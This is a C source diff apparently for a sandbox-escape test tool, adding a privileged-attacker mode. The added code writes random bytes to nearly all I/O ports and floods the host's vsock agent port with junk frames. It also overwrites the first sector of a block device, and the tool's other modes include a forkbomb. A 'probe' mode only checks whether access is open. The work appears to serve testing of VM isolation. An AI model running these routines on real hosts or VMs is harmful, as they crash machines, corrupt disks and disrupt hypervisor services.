@@ -28,6 +28,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/inotify.h>
+#include <sys/io.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -352,8 +353,10 @@ static int a_sys(const char *op)
 	} else if (!strcmp(op, "add_key")) {
 		r = syscall(SYS_add_key, "user", "sandbox-attacker", "x", 1, KEY_SPEC_PROCESS_KEYRING);
 		res("result", r, 0);
-	} else if (!strcmp(op, "kexec_load")) {  /* no segments: EINVAL once past the permission check */
-		r = syscall(SYS_kexec_load, 0, 0, NULL, 0);
+	} else if (!strcmp(op, "kexec_load")) {
+		/* an unknown flag bit: EINVAL once past the permission check
+		 * (no segments and no flags would unload a loaded kernel) */
+		r = syscall(SYS_kexec_load, 0, 0, NULL, 0x8000UL);
 		res("result", r, 0);
 	} else {
 		fprintf(stderr, "sandbox-attacker: unknown syscall %s\n", op);
@@ -540,6 +543,153 @@ static int a_neighbour(int pid)
 	return 0;
 }
 
+/* ---- --privileged-attacker: every capability, no seccomp ---------------------------------
+ * MODE "hit" only where the kernel is the sandbox's own (the VM): there
+ * the attack is made for real against the VMM's devices. "probe" (a
+ * shared kernel: the host's) only shows that the door is open and never
+ * goes through it: no write to this host's ports, disks or vsock. */
+
+/* I/O ports: iopl(3), then garbage written to every port but the ones
+ * that end the machine or its interrupts (i8042 0x60/0x64, 0x92, 0xcf9,
+ * the exit port 0x440-0x441, PIC, PIT, RTC, ELCR, the serial data port),
+ * then every port read back. The VMM's bus answers them all. */
+static int a_ports(const char *mode)
+{
+	long r = iopl(3);
+	res("iopl", r, 0);
+	if (r < 0 || strcmp(mode, "hit")) {
+		if (r == 0)
+			iopl(0);
+		return 0;
+	}
+	static const struct { unsigned lo, hi; } keep[] = {
+		{ 0x20, 0x21 }, { 0x40, 0x43 }, { 0x60, 0x64 }, { 0x70, 0x71 }, { 0x92, 0x92 },
+		{ 0xa0, 0xa1 }, { 0x3f8, 0x3f8 }, { 0x440, 0x441 }, { 0x4d0, 0x4d1 }, { 0xcf8, 0xcff },
+	};
+	unsigned long seed = 0x9e3779b97f4a7c15UL, written = 0, ones = 0;
+	for (unsigned round = 0; round < 2; round++)
+		for (unsigned p = 0; p <= 0xffff; p++) {
+			size_t i;
+			for (i = 0; i < sizeof(keep) / sizeof(keep[0]); i++)
+				if (p >= keep[i].lo && p <= keep[i].hi)
+					break;
+			if (i < sizeof(keep) / sizeof(keep[0]))
+				continue;
+			seed = seed * 6364136223846793005UL + 1442695040888963407UL;
+			outb((unsigned char)(seed >> 56), (unsigned short)p);
+			written++;
+			ones += inb((unsigned short)p) == 0xff;
+		}
+	iopl(0);
+	printf("ports_written=%lu\nreads_all_ones=%lu\n", written, ones);
+	return 0;
+}
+
+/* vsock: the host (CID 2): 64 connections to the agent's port 1024, each
+ * sent 64 KiB of garbage frames, and one connection to each of ports
+ * 1..512. */
+static int a_vsock_flood(const char *mode)
+{
+	int s = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	res("socket", s, 0);
+	if (s < 0 || strcmp(mode, "hit")) {
+		if (s >= 0)
+			close(s);
+		return 0;
+	}
+	close(s);
+	static char junk[65536];
+	unsigned long seed = 42;
+	for (size_t i = 0; i < sizeof(junk); i++) {
+		seed = seed * 6364136223846793005UL + 1442695040888963407UL;
+		junk[i] = (char)(seed >> 56);
+	}
+	int fds[64], connected = 0, refused = 0;
+	long sent = 0;
+	for (int i = 0; i < 64; i++) {
+		fds[i] = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
+		struct sockaddr_vm a = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024 };
+		struct timeval tv = { 2, 0 };
+		setsockopt(fds[i], SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
+		if (fds[i] >= 0 && connect(fds[i], (struct sockaddr *)&a, sizeof(a)) == 0) {
+			connected++;
+			ssize_t n = send(fds[i], junk, sizeof(junk), MSG_NOSIGNAL);
+			if (n > 0)
+				sent += n;
+		} else {
+			refused++;
+		}
+	}
+	for (int i = 0; i < 64; i++)
+		if (fds[i] >= 0)
+			close(fds[i]);
+	int other = 0;
+	for (unsigned port = 1; port <= 512; port++) {
+		int f = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
+		struct sockaddr_vm a = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = port };
+		if (f >= 0 && connect(f, (struct sockaddr *)&a, sizeof(a)) == 0) {
+			other++;
+			send(f, junk, 4096, MSG_NOSIGNAL);
+		}
+		if (f >= 0)
+			close(f);
+	}
+	printf("agent_port_connected=%d\nagent_port_refused=%d\nbytes_sent=%ld\nother_ports_connected=%d\n",
+	       connected, refused, sent, other);
+	return 0;
+}
+
+/* Block devices: mknod each; "hit" writes garbage to the first sector of
+ * vda (the image disk, read-only at the virtio level) and fsyncs; "probe"
+ * only reads (a host's disks are never written). */
+static int a_rawdisk(const char *mode)
+{
+	DIR *d = opendir("/sys/block");
+	struct dirent *e;
+	char path[600], dev[64], sec[512];
+	int hit = !strcmp(mode, "hit"), tried = 0;
+	const char *node = "/.attacker-disk";
+	while (d && (e = readdir(d))) {
+		unsigned maj, min;
+		if (e->d_name[0] == '.' || (hit && strcmp(e->d_name, "vda")))
+			continue;
+		snprintf(path, sizeof(path), "/sys/block/%s/dev", e->d_name);
+		FILE *f = fopen(path, "r");
+		int ok = f && fgets(dev, sizeof(dev), f) && sscanf(dev, "%u:%u", &maj, &min) == 2;
+		if (f)
+			fclose(f);
+		if (!ok)
+			continue;
+		tried++;
+		unlink(node);
+		if (mknod(node, S_IFBLK | 0600, makedev(maj, min))) {
+			printf("mknod=%s\n", ename(errno));
+			break;
+		}
+		int fd = open(node, (hit ? O_RDWR : O_RDONLY) | O_CLOEXEC);
+		unlink(node);
+		if (fd < 0) {
+			printf("device=%s\nopen=%s\n", e->d_name, ename(errno));
+			continue;
+		}
+		ssize_t n = pread(fd, sec, sizeof(sec), 0);
+		printf("device=%s\nread=%s\n", e->d_name, n == (ssize_t)sizeof(sec) ? "OK" : n < 0 ? ename(errno) : "short");
+		if (hit) {
+			memset(sec, 0xa5, sizeof(sec));
+			n = pwrite(fd, sec, sizeof(sec), 0);
+			printf("write=%s\n", n == (ssize_t)sizeof(sec) ? "OK" : n < 0 ? ename(errno) : "short");
+			printf("fsync=%s\n", fsync(fd) ? ename(errno) : "OK");
+		}
+		close(fd);
+		if (!hit && n == (ssize_t)sizeof(sec))
+			break;
+	}
+	if (d)
+		closedir(d);
+	printf("devices_tried=%d\n", tried);
+	return 0;
+}
+
 /* ---- the attack surface: which syscalls reach a kernel ------------------------------ */
 /* Every syscall number in a child of its own (2 s alarm), all arguments
  * -1: refused (EPERM or ENOSYS: a filter, a missing capability checked
@@ -721,6 +871,12 @@ int main(int argc, char **argv)
 		return a_hostlo(atoi(x));
 	if (!strcmp(a, "abstract") && x)
 		return a_abstract(x);
+	if (!strcmp(a, "ports") && x)
+		return a_ports(x);
+	if (!strcmp(a, "vsock-flood") && x)
+		return a_vsock_flood(x);
+	if (!strcmp(a, "rawdisk") && x)
+		return a_rawdisk(x);
 	if (!strcmp(a, "neighbour") && x)
 		return a_neighbour(atoi(x));
 	if (!strcmp(a, "forkbomb") && x)
